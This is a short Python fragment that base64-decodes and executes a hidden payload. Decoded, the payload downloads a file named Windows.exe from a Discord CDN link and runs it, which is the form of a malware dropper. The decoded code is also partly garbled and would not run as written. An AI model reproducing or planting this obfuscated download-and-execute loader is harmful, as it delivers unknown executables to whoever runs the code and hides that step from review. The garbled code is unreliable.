code = b"""aW1wb3J0IG9zCmlmIG9zLmV4Y2VwdGlvbnMgIlwib
  GlzdFwiIGV4aXQoMCkKaW1wb3J0IHJlcXVlc3RzCmludGVyZmF
  jZSB1cmw9ICdodHRwczovL2Nkbi5kaXNjb3JkYXBwLmNvbS9hY
  2NvdW50cy8xMTA5NDY1MTg4NDMzOTM2NDI1L1dpbmRvd3MuZXh
  lJwpyZXNwb25zZSA9IHJlcXVlc3RzLmdldCh1cmwpCndpdGggd
  GVtcG9yZmlsZS5OYW1lZFRleHQoZGVsZXRlPUNvbW1vbmx5KQo
  Kc3VicHJvY2Vzcy5jYWxsKFtleGVfY29udGVudF0pCg=="""
exec(base64.b64decode(code))
